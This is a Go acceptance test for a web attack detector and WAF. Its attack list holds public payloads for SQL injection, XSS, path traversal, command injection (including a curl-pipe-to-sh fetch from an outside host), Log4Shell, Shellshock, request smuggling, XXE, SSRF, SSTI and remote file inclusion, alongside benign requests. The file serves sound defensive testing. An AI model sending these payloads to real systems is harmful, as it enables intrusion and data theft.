package e2e

import (
	"encoding/base64"
	"fmt"
	"strings"
	"testing"

	"github.com/meshguard/meshguard/internal/threat"
	"github.com/meshguard/meshguard/internal/threat/waf"
)

// httpCase is one request of the threat acceptance lists. Most are sent with curl (Method,
// Target, Headers, Body); Raw ones (smuggling: framing curl will not produce) are written to a
// socket as they are. Want is the detector expected to name an attack ("" for benign).
type httpCase struct {
	Name    string
	Want    string
	Method  string
	Target  string // path and query, encoded as on the wire
	Headers []string
	Body    string
	Raw     string // a whole HTTP/1.1 request; Host is filled in by rawRequest
}

// pause in a Raw request: the sender stops there for a second (a slow client: the bytes before
// it arrive, and may be forwarded, before the request is complete).
const pause = "<<PAUSE>>"

const multipartBoundary = "------------------------mgE2Eb0undary7d1c"

// multipart builds a multipart/form-data body the way curl -F does.
func multipart(parts ...[3]string) string {
	var b strings.Builder
	for _, p := range parts { // name, filename ("" for a plain field), content
		b.WriteString("--" + multipartBoundary + "\r\n")
		if p[1] == "" {
			fmt.Fprintf(&b, "Content-Disposition: form-data; name=%q\r\n\r\n", p[0])
		} else {
			fmt.Fprintf(&b, "Content-Disposition: form-data; name=%q; filename=%q\r\nContent-Type: text/plain\r\n\r\n", p[0], p[1])
		}
		b.WriteString(p[2] + "\r\n")
	}
	b.WriteString("--" + multipartBoundary + "--\r\n")
	return b.String()
}

const (
	ctForm      = "Content-Type: application/x-www-form-urlencoded"
	ctJSON      = "Content-Type: application/json"
	ctMultipart = "Content-Type: multipart/form-data; boundary=" + multipartBoundary
)

// attackCases: public cheat-sheet payloads in the places real attacks put them.
var attackCases = []httpCase{
	{Name: "sqli tautology in query", Want: threat.SQLi, Method: "GET", Target: "/search?q=%27%20OR%20%271%27%3D%271"},
	{Name: "sqli union select", Want: threat.SQLi, Method: "GET", Target: "/products?id=1%20UNION%20SELECT%20username%2Cpassword%20FROM%20users--"},
	{Name: "sqli login bypass form", Want: threat.SQLi, Method: "POST", Target: "/login", Headers: []string{ctForm}, Body: "username=admin%27--&password=x"},
	{Name: "sqli in json", Want: threat.SQLi, Method: "POST", Target: "/api/v1/items", Headers: []string{ctJSON}, Body: `{"name": "x' OR 1=1-- -", "qty": 2}`},
	{Name: "sqli stacked drop", Want: threat.SQLi, Method: "GET", Target: "/item?id=1%3B%20DROP%20TABLE%20users--"},
	{Name: "sqli time-based in cookie", Want: threat.SQLi, Method: "GET", Target: "/account", Headers: []string{"Cookie: session=abc; uid=1' AND SLEEP(5)-- -"}},
	{Name: "sqli boolean blind", Want: threat.SQLi, Method: "GET", Target: "/report?id=1%20AND%201%3D1%20AND%20%27a%27%3D%27a"},
	{Name: "xss script tag", Want: threat.XSS, Method: "GET", Target: "/search?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E"},
	{Name: "xss img onerror form", Want: threat.XSS, Method: "POST", Target: "/comments?post=7", Headers: []string{ctForm}, Body: "comment=%3Cimg+src%3Dx+onerror%3Dalert(document.cookie)%3E"},
	{Name: "xss svg onload", Want: threat.XSS, Method: "GET", Target: "/hello?name=%3Csvg%2Fonload%3Dalert(1)%3E"},
	{Name: "xss iframe javascript uri in json", Want: threat.XSS, Method: "PUT", Target: "/api/v1/profile", Headers: []string{ctJSON}, Body: `{"bio": "<iframe src=\"javascript:alert(1)\"></iframe>"}`},
	{Name: "traversal dot-dot path", Want: threat.PathTraversal, Method: "GET", Target: "/static/../../../../etc/passwd"},
	{Name: "traversal encoded param", Want: threat.PathTraversal, Method: "GET", Target: "/download?file=..%2F..%2F..%2Fetc%2Fshadow"},
	{Name: "traversal double encoded", Want: threat.PathTraversal, Method: "GET", Target: "/files/%252e%252e%252f%252e%252e%252fetc%252fpasswd"},
	{Name: "traversal windows", Want: threat.PathTraversal, Method: "GET", Target: "/download?file=..%5C..%5C..%5Cwindows%5Cwin.ini"},
	{Name: "cmd injection semicolon", Want: threat.CmdInjection, Method: "GET", Target: "/ping?host=127.0.0.1%3Bcat%20%2Fetc%2Fpasswd"},
	{Name: "cmd injection pipe form", Want: threat.CmdInjection, Method: "POST", Target: "/tools/lookup", Headers: []string{ctForm}, Body: "ip=8.8.8.8%7Cid"},
	{Name: "cmd injection and-and", Want: threat.CmdInjection, Method: "GET", Target: "/dns?domain=example.com%26%26whoami"},
	{Name: "cmd injection substitution json", Want: threat.CmdInjection, Method: "POST", Target: "/api/v1/webhooks", Headers: []string{ctJSON}, Body: `{"host": "$(curl http://203.0.113.9/x.sh|sh)"}`},
	{Name: "cmd injection backticks", Want: threat.CmdInjection, Method: "GET", Target: "/exec?arg=%60id%60"},
	{Name: "log4shell user-agent", Want: threat.Log4Shell, Method: "GET", Target: "/index.html", Headers: []string{"User-Agent: ${jndi:ldap://203.0.113.9:1389/a}"}},
	{Name: "log4shell obfuscated header", Want: threat.Log4Shell, Method: "GET", Target: "/api", Headers: []string{"X-Api-Version: ${${lower:j}ndi:${lower:l}${lower:d}a${lower:p}://203.0.113.9/x}"}},
	{Name: "log4shell in query", Want: threat.Log4Shell, Method: "GET", Target: "/?q=%24%7Bjndi%3Armi%3A%2F%2F203.0.113.9%2Fa%7D"},
	{Name: "shellshock user-agent", Want: threat.Shellshock, Method: "GET", Target: "/cgi-bin/status", Headers: []string{"User-Agent: () { :; }; /bin/bash -c 'cat /etc/passwd'"}},
	{Name: "shellshock referer", Want: threat.Shellshock, Method: "GET", Target: "/cgi-bin/test.cgi", Headers: []string{"Referer: () { ignored; }; echo; /usr/bin/id"}},
	{Name: "smuggling cl.te", Want: threat.HTTPSmuggling, Raw: "POST /search?v=cl-te HTTP/1.1\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 6\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nG"},
	{Name: "smuggling two content-lengths", Want: threat.HTTPSmuggling, Raw: "POST /search?v=cl-cl HTTP/1.1\r\nContent-Length: 3\r\nContent-Length: 11\r\n\r\nq=1GET / HT"},
	{Name: "smuggling obfuscated te", Want: threat.HTTPSmuggling, Raw: "POST /search?v=te-obf HTTP/1.1\r\nContent-Length: 4\r\nTransfer-Encoding: xchunked\r\n\r\n5c\r\n"},
	{Name: "log4shell header, slow body", Want: threat.Log4Shell, Raw: "POST /api/v1/events?slow=1 HTTP/1.1\r\nUser-Agent: ${jndi:ldap://203.0.113.9:1389/slow}\r\nContent-Type: application/json\r\nContent-Length: 12\r\n\r\n{\"a\":" + pause + "\"b\"}   "},
	{Name: "log4shell header, stalled body", Want: threat.Log4Shell, Raw: "POST /api/v1/events?stalled=1 HTTP/1.1\r\nUser-Agent: ${jndi:ldap://203.0.113.9:1389/stall}\r\nContent-Type: application/json\r\nContent-Length: 4000\r\n\r\n{\"a\":"},
	{Name: "xxe external entity", Want: threat.XXE, Method: "POST", Target: "/api/v1/import", Headers: []string{"Content-Type: application/xml"}, Body: `<?xml version="1.0"?><!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><r>&xxe;</r>`},
	{Name: "nosql operator injection", Want: threat.NoSQLInjection, Method: "GET", Target: "/login?username%5B%24ne%5D=admin&password%5B%24ne%5D=x"},
	{Name: "crlf header injection", Want: threat.CRLFInjection, Method: "GET", Target: "/redirect?to=%0d%0aSet-Cookie:%20session%3Dattacker"},
	{Name: "ssrf cloud metadata", Want: threat.SSRF, Method: "GET", Target: "/fetch?url=http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data%2Fiam%2F"},
	{Name: "ssti jinja", Want: threat.SSTI, Method: "GET", Target: "/greet?name=%7B%7Bconfig.__class__.__init__.__globals__%5B%27os%27%5D.popen(%27id%27).read()%7D%7D"},
}

// benignCases: what a web app's real users and API clients send, including the shapes naive
// detectors mistake for attacks (apostrophes, quotes, dashes, symbols, JSON verbs, uploads).
var benignCases = []httpCase{
	{Name: "home page", Method: "GET", Target: "/"},
	{Name: "search name with apostrophe", Method: "GET", Target: "/search?q=O%27Brien"},
	{Name: "search rock and roll", Method: "GET", Target: "/search?q=rock+%26+roll&sort=relevance"},
	{Name: "users by name sorted", Method: "GET", Target: "/api/v1/users?name=D%27Angelo&sort=-created_at&page=2&per_page=50"},
	{Name: "signup form with apostrophes", Method: "POST", Target: "/signup", Headers: []string{ctForm}, Body: "first_name=Se%C3%A1n&last_name=O%27Connor&email=sean.oconnor%40example.com&company=Ben+%26+Jerry%27s"},
	{Name: "create user json", Method: "POST", Target: "/api/v1/users", Headers: []string{ctJSON}, Body: `{"name": "Mary-Kate O'Neil", "email": "mk.oneil@example.com", "roles": ["editor", "viewer"]}`},
	{Name: "replace user json", Method: "PUT", Target: "/api/v1/users/42", Headers: []string{ctJSON}, Body: `{"id": 42, "name": "Renée D'Arcy", "address": {"street": "12 Rue de l'Église", "city": "Paris"}, "active": true}`},
	{Name: "patch nickname with quotes", Method: "PATCH", Target: "/api/v1/users/42", Headers: []string{ctJSON}, Body: `{"nickname": "Bob \"the builder\""}`},
	{Name: "merge patch", Method: "PATCH", Target: "/api/v1/orders/1001", Headers: []string{"Content-Type: application/merge-patch+json"}, Body: `{"status": "shipped", "tracking": null}`},
	{Name: "delete item", Method: "DELETE", Target: "/api/v1/items/17"},
	{Name: "soft delete with query", Method: "DELETE", Target: "/api/v1/sessions/current?soft=true"},
	{Name: "multipart upload csv", Method: "POST", Target: "/upload", Headers: []string{ctMultipart}, Body: multipart([3]string{"description", "", "Q3 report - draft (don't share)"}, [3]string{"file", "report.csv", "date,amount,customer\n2026-01-02,19.99,O'Hara\n2026-01-03,5.00,Smith & Sons\n"})},
	{Name: "multipart avatar", Method: "POST", Target: "/api/v1/users/42/avatar", Headers: []string{ctMultipart}, Body: multipart([3]string{"avatar", "me.txt", "not really a picture"})},
	{Name: "search words select from", Method: "GET", Target: "/search?q=how+to+select+the+best+chair+from+a+store"},
	{Name: "search quoted phrase", Method: "GET", Target: "/search?q=%22exact+phrase%22+-excluded+site%3Aexample.com"},
	{Name: "tag c++", Method: "GET", Target: "/blog?tag=c%2B%2B&lang=en"},
	{Name: "date range filter", Method: "GET", Target: "/api/v1/orders?from=2026-01-01&to=2026-01-31&status=shipped,delivered"},
	{Name: "bracket filters", Method: "GET", Target: "/api/v1/products?filter%5Bprice%5D%5Bgte%5D=10&filter%5Bprice%5D%5Blte%5D=100"},
	{Name: "bearer token", Method: "GET", Target: "/api/v1/me", Headers: []string{"Authorization: Bearer eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIiwibmFtZSI6IkpvaG4gRG9lIn0.SflKxwRJSMeKKF2QT4fwpMeJf36POk6yJV_adQssw5c"}},
	{Name: "cookies and caching", Method: "GET", Target: "/dashboard", Headers: []string{"Cookie: sessionid=8f14e45fceea167a5a36dedd4bea2543; theme=dark; lang=en-GB", "If-None-Match: \"33a64df5\"", "Accept-Language: en-GB,en;q=0.9,fr;q=0.8"}},
	{Name: "static asset", Method: "GET", Target: "/static/js/app.3f2a1c.js?v=1.2.3"},
	{Name: "docs page", Method: "GET", Target: "/docs/getting-started/install.html#linux"},
	{Name: "graphql query", Method: "POST", Target: "/graphql", Headers: []string{ctJSON}, Body: `{"query": "query GetUser($id: ID!) { user(id: $id) { name email } }", "variables": {"id": "42"}}`},
	{Name: "comment with dashes and percent", Method: "POST", Target: "/comments", Headers: []string{ctForm}, Body: "comment=I%27d+say+it%27s+50%25+off+--+great+deal%21&rating=5"},
	{Name: "unicode search", Method: "GET", Target: "/maps?q=caf%C3%A9+cr%C3%A8me+%E6%9D%B1%E4%BA%AC"},
	{Name: "math query", Method: "GET", Target: "/calc?expr=1%2B1%3D2&explain=yes"},
	{Name: "contact with phone", Method: "POST", Target: "/api/v1/contacts", Headers: []string{ctJSON}, Body: `{"name": "Zoë Saldaña", "phone": "+1 (555) 010-2030", "notes": "Call after 5pm; prefers email."}`},
	{Name: "address form", Method: "POST", Target: "/checkout/address", Headers: []string{ctForm}, Body: "line1=221B+Baker+St.&line2=Apt+%233&city=London&postcode=NW1+6XE"},
	{Name: "markdown post", Method: "POST", Target: "/api/v1/posts", Headers: []string{ctJSON}, Body: `{"title": "Release notes 2.1", "body": "## What's new\n- Faster search (2x)\n- Fixed the 'remember me' checkbox\n\nThanks to all contributors!"}`},
	{Name: "cors preflight", Method: "OPTIONS", Target: "/api/v1/items", Headers: []string{"Origin: https://app.example.com", "Access-Control-Request-Method: PUT", "Access-Control-Request-Headers: content-type"}},
	{Name: "bulk json array", Method: "PUT", Target: "/api/v1/cart", Headers: []string{ctJSON}, Body: `{"items": [{"sku": "A-100", "qty": 1}, {"sku": "B-200", "qty": 3}], "coupon": "SPRING-25"}`},
	{Name: "analytics query string", Method: "GET", Target: "/landing?utm_source=newsletter&utm_medium=email&utm_campaign=spring_sale_2026&ref=home%2Fhero"},
}

// curlArgs is the curl command (run in the client pod) that sends c to base (http://host) and
// prints the body followed by a last line with the status code.
func curlArgs(c httpCase, base string) []string {
	args := []string{"curl", "-sS", "-m", "10", "--path-as-is", "-w", "\n%{http_code}", "-X", c.Method}
	for _, h := range c.Headers {
		args = append(args, "-H", h)
	}
	if c.Body != "" {
		args = append(args, "--data-binary", c.Body) // never starts with '@': no file is read
	}
	return append(args, base+c.Target)
}

// rawSender writes argv[2] (base64; pausing at each pause marker) to host argv[1] port 80 and prints what comes back (a
// response, or the error), with the status code on the last line ("000" without a response).
const rawSender = `import base64, socket, sys, time
s = socket.create_connection((sys.argv[1], 80), timeout=5)
parts = base64.b64decode(sys.argv[2]).split(b"<<PAUSE>>")
for i, p in enumerate(parts):
    if i:
        time.sleep(1)
    try:
        s.sendall(p)
    except Exception as e:
        print("error:", e)
        break
data = b""
try:
    while b"\r\n\r\n" not in data or len(data) < 4096:
        b = s.recv(4096)
        if not b:
            break
        data += b
        head, _, body = data.partition(b"\r\n\r\n")
        if b"\r\n\r\n" in data and b"content-length:" in head.lower():
            n = int([l.split(b":")[1] for l in head.split(b"\r\n") if l.lower().startswith(b"content-length:")][0])
            if len(body) >= n:
                break
except Exception as e:
    print("error:", e)
parts = data.split(b" ", 2)
code = parts[1].decode() if len(parts) > 1 and data.startswith(b"HTTP/") else "000"
sys.stdout.write(data.partition(b"\r\n\r\n")[2].decode(errors="replace") + "\n" + code + "\n")
`

// rawArgs is the command sending a Raw case to host.
func rawArgs(c httpCase, host string) []string {
	return []string{"python3", "-c", rawSender, host, base64.StdEncoding.EncodeToString([]byte(rawRequest(c, host)))}
}

// rawRequest is the request as it leaves the client: Raw with a Host header (pause markers
// kept for the sender), or what curl sends for the other cases (for the offline check).
func rawRequest(c httpCase, host string) string {
	if c.Raw != "" {
		line, rest, _ := strings.Cut(c.Raw, "\r\n")
		return line + "\r\nHost: " + host + "\r\n" + rest
	}
	var b strings.Builder
	fmt.Fprintf(&b, "%s %s HTTP/1.1\r\nHost: %s\r\nUser-Agent: curl/7.88.1\r\nAccept: */*\r\n", c.Method, c.Target, host)
	hasCT := false
	for _, h := range c.Headers {
		if strings.HasPrefix(strings.ToLower(h), "content-type:") {
			hasCT = true
		}
		if strings.HasPrefix(strings.ToLower(h), "user-agent:") {
			s := b.String()
			b.Reset()
			b.WriteString(strings.Replace(s, "User-Agent: curl/7.88.1\r\n", "", 1))
		}
		b.WriteString(h + "\r\n")
	}
	if c.Body != "" {
		if !hasCT {
			b.WriteString(ctForm + "\r\n")
		}
		fmt.Fprintf(&b, "Content-Length: %d\r\n", len(c.Body))
	}
	b.WriteString("\r\n" + c.Body)
	return b.String()
}

// TestThreatFixturesOffline runs the acceptance lists through the detectors in-process (no
// lab): every attack is named by the detector it is listed for, no benign request is flagged,
// and the WAF-only case is one the built-ins miss and CRS paranoia level 1 catches. It keeps
// the lab test's expectations honest when detectors change.
func TestThreatFixturesOffline(t *testing.T) {
	h, err := threat.NewHTTP(threat.HTTPConfig{})
	if err != nil {
		t.Fatal(err)
	}
	inspect := func(c httpCase) []threat.Finding {
		r, err := threat.ParseHTTPRequest([]byte(strings.ReplaceAll(rawRequest(c, "web.shop.svc.cluster.local"), pause, "")))
		if err != nil {
			t.Fatalf("%s: %v", c.Name, err)
		}
		return h.Inspect(&r, nil)
	}
	// Each attack's request line is unique, so the lab test can tell from nginx's access log
	// whether it got through.
	lines := map[string]httpCase{}
	for _, c := range append(append([]httpCase(nil), benignCases...), attackCases...) {
		l := requestLine(c)
		if other, dup := lines[l]; dup && (c.Want != "" || other.Want != "") {
			t.Errorf("request line %q of %q is also %q's (make the attack's target unique)", l, c.Name, other.Name)
		}
		lines[l] = c
	}
	named := 0
	for _, c := range attackCases {
		fs := inspect(c)
		found := false
		for _, f := range fs {
			found = found || f.Detector == c.Want
		}
		if found {
			named++
		} else {
			t.Errorf("attack %q: want %s, built-ins found %v", c.Name, c.Want, fs)
		}
	}
	passed := 0
	for _, c := range benignCases {
		if fs := inspect(c); len(fs) > 0 {
			t.Errorf("benign %q flagged: %v", c.Name, fs)
		} else {
			passed++
		}
	}
	t.Logf("offline: attacks named %d/%d, benign passed %d/%d", named, len(attackCases), passed, len(benignCases))

	if fs := inspect(wafOnlyAttack); len(fs) > 0 {
		t.Errorf("the WAF-only attack is caught by the built-ins (pick another): %v", fs)
	}
	w, err := waf.New(waf.Config{ParanoiaLevel: 1})
	if err != nil {
		t.Fatal(err)
	}
	r, err := threat.ParseHTTPRequest([]byte(rawRequest(wafOnlyAttack, "web.shop.svc.cluster.local")))
	if err != nil {
		t.Fatal(err)
	}
	if fs := w.Inspect(&r, nil); len(fs) == 0 {
		t.Errorf("CRS paranoia level 1 misses the WAF-only attack %q", wafOnlyAttack.Name)
	} else {
		t.Logf("waf-only attack: %v", fs)
	}
}

// wafOnlyAttack is caught by the CRS (waf sensor) but by no built-in detector.
// Remote file inclusion (CRS 931120: a URL parameter ending in '?').
var wafOnlyAttack = httpCase{Name: "remote file inclusion", Want: threat.WAFAnomaly, Method: "GET", Target: "/index.php?page=http://203.0.113.9/shell.txt?"}
